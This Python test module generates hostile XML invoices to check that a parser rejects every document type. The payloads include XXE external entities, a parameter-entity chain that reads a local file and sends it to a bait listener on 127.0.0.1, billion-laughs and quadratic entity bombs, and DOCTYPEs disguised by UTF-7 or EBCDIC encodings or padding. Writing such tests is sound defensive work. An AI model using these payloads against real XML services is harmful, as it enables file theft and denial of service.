"""XML with a document type: no invoice has one, and every attack by entities needs one."""

import re
from random import Random

from tests.hostile._hostile import Bait
from tests.hostile._xml_builder import any_invoice, bare, inside, root_name


def _with_doctype(document: bytes, subset: str, place: bytes = b"") -> bytes:
    """Return `document` with a document type that has an internal `subset`."""
    name = root_name(document).decode()
    head = f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE {name} {subset}>\n'.encode()
    return head + inside(bare(document), place)


def external_entity(rng: Random, bait: Bait) -> bytes:
    """XXE: an entity that stands for a file or an address, used where text is read."""
    url = rng.choice(bait.urls())
    kind = rng.choice((f'SYSTEM "{url}"', f'PUBLIC "-//X//EN" "{url}"'))
    document = _with_doctype(any_invoice(rng), f"[<!ENTITY x {kind}>]")
    text = rng.choice((b"&x;", b"before &x; after"))
    return re.sub(
        rb"(<(?:\w+:)?(?:ID|Name)[^>]*>)[^<]*", rb"\g<1>" + text, document, count=rng.randint(1, 3)
    )


def parameter_entity(rng: Random, bait: Bait) -> bytes:
    url = rng.choice(bait.urls())
    leak = f"<!ENTITY &#37; s SYSTEM 'http://127.0.0.1:{bait.port}/?%f;'>"
    subset = rng.choice(
        (f'[<!ENTITY % p SYSTEM "{url}"> %p;]',
         f'[<!ENTITY % f SYSTEM "file://{bait.file}"><!ENTITY % e "{leak}"> %e; %s;]',
         f'[<!ENTITY % p SYSTEM "{url}"><!ENTITY % q "%p;"> %q;]')
    )  # fmt: skip
    return _with_doctype(any_invoice(rng), subset)


def external_dtd(rng: Random, bait: Bait) -> bytes:
    url = rng.choice(bait.urls())
    return _with_doctype(
        any_invoice(rng), rng.choice((f'SYSTEM "{url}"', f'PUBLIC "-//OASIS//DTD X//EN" "{url}"'))
    )


def harmless_doctype(rng: Random, bait: Bait) -> bytes:
    """No entity at all: still no invoice has a document type."""
    return _with_doctype(
        any_invoice(rng), rng.choice(("", "[]", "[<!-- nothing -->]", "[<!ELEMENT a ANY>]"))
    )


def unparsed_entity(rng: Random, bait: Bait) -> bytes:
    url = rng.choice(bait.urls())
    return _with_doctype(
        any_invoice(rng),
        f'[<!NOTATION n SYSTEM "{url}"><!ENTITY u SYSTEM "{url}" NDATA n><!ATTLIST a b ENTITY "u">]',
    )


def laughs(rng: Random, bait: Bait) -> bytes:
    """Entities of entities: 10**9 laughs of some kilobytes."""
    width, levels = rng.randint(5, 20), rng.randint(4, 30)
    lines = ['<!ENTITY l0 "ha">']
    lines += [f'<!ENTITY l{n} "{f"&l{n - 1};" * width}">' for n in range(1, levels)]
    return _with_doctype(
        any_invoice(rng), f"[{''.join(lines)}]", f"<x>&l{levels - 1};</x>".encode()
    )


def laughs_in_attribute(rng: Random, bait: Bait) -> bytes:
    lines = ['<!ENTITY l0 "ha">', *(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))]
    return _with_doctype(any_invoice(rng), f"[{''.join(lines)}]", b'<x y="&l11;"/>')


def quadratic(rng: Random, bait: Bait) -> bytes:
    size, times = rng.randint(10_000, 60_000), rng.randint(2000, 9000)
    return _with_doctype(
        any_invoice(rng), f'[<!ENTITY q "{"a" * size}">]', b"<x>" + b"&q;" * times + b"</x>"
    )


def recursive_entity(rng: Random, bait: Bait) -> bytes:
    return _with_doctype(any_invoice(rng), '[<!ENTITY a "&b;"><!ENTITY b "&a;">]', b"<x>&a;</x>")


def parameter_laughs(rng: Random, bait: Bait) -> bytes:
    lines = ['<!ENTITY % p0 "<!-- a -->">']
    lines += [f'<!ENTITY % p{n} "{f"&#37;p{n - 1};" * 10}">' for n in range(1, 12)]
    return _with_doctype(any_invoice(rng), f"[{''.join(lines)} %p11;]")


def doctype_in_disguise(rng: Random, bait: Bait) -> bytes:
    """The document type in an encoding in which a filter for `<!DOCTYPE` does not see it."""
    encoding = rng.choice(("utf-16", "utf-16-le", "utf-16-be", "utf-7", "cp037", "utf-32", "cp500"))
    text = external_entity(rng, bait).decode().replace('encoding="UTF-8"', f'encoding="{encoding}"')
    if encoding == "utf-7":
        text = text.replace("<!DOCTYPE", "+ADwAIQ-DOCTYPE").replace("<!ENTITY", "+ADwAIQ-ENTITY")
        return text.encode("ascii", "ignore")
    return text.encode(encoding, "ignore")


def doctype_behind(rng: Random, bait: Bait) -> bytes:
    """The document type behind comments, instructions and white space of many kilobytes."""
    document = external_dtd(rng, bait)
    before = rng.choice((b"<!-- x -->", b"<?a b?>", b"\n\t ", b"<!-- <a xmlns='u'/> -->"))
    return document.replace(b"<!DOCTYPE", before * rng.randint(1, 9000) + b"<!DOCTYPE", 1)
